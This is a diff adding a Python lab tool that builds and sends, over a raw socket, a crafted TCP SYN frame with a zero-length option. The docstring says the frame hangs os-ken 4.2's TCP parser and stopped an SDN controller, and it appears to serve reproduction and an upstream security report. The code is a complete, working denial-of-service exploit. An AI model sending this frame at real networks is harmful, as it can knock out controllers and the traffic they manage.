@@ -1,0 +1,81 @@
+"""Frames a hostile host can send, and a sender that puts them on a lab host's wire.
+
+``tcp_option_len0`` is the frame that stopped the controller (issue 11): a
+TCP segment whose options hold an option of unknown kind with length 0.
+os-ken 4.2's TCP parser advances through options by their length field, so it
+never leaves that option; see ``docs/security.md`` for the upstream report.
+
+    python -m lab.hostile_frames IFACE --src-mac MAC --dst-mac MAC \\
+        --src-ip IP --dst-ip IP [--count N] [--interval S]
+
+sends the frame ``count`` times on ``IFACE`` through a raw packet socket (root).
+"""
+
+from __future__ import annotations
+
+import argparse
+import socket
+import struct
+import sys
+import time
+from collections.abc import Sequence
+
+
+def _checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\x00"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def tcp_option_len0(src_mac: str, dst_mac: str, src_ip: str, dst_ip: str,
+                    sport: int = 40000, dport: int = 80, kind: int = 0x42) -> bytes:
+    """Ethernet/IPv4/TCP SYN whose one option is ``kind`` with length 0, padded to 4 bytes."""
+    options = bytes([kind, 0, 1, 1])  # the bad option, then two NOPs of padding
+    offset = (20 + len(options)) // 4
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, offset << 4, 0x02, 64240, 0, 0) + options
+    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
+    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
+    ip_header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64, 6, 0,
+                            src, dst)
+    ip_header = ip_header[:10] + struct.pack("!H", _checksum(ip_header)) + ip_header[12:]
+    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
+    return eth + b"\x08\x00" + ip_header + tcp
+
+
+def send(iface: str, frame: bytes, count: int = 1, interval: float = 0.0) -> int:
+    """Send ``frame`` ``count`` times on ``iface``; returns how many went out."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
+        sock.bind((iface, 0))
+        for i in range(count):
+            sock.send(frame)
+            if interval and i + 1 < count:
+                time.sleep(interval)
+    return count
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description="send the TCP-option-length-0 frame")
+    parser.add_argument("iface")
+    parser.add_argument("--src-mac", required=True)
+    parser.add_argument("--dst-mac", required=True)
+    parser.add_argument("--src-ip", required=True)
+    parser.add_argument("--dst-ip", required=True)
+    parser.add_argument("--count", type=int, default=1)
+    parser.add_argument("--interval", type=float, default=0.0)
+    args = parser.parse_args(argv)
+    try:
+        frame = tcp_option_len0(args.src_mac, args.dst_mac, args.src_ip, args.dst_ip)
+        sent = send(args.iface, frame, args.count, args.interval)
+    except (OSError, ValueError) as exc:
+        print(f"hostile_frames: error: {exc}", file=sys.stderr)
+        return 2
+    print(sent)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
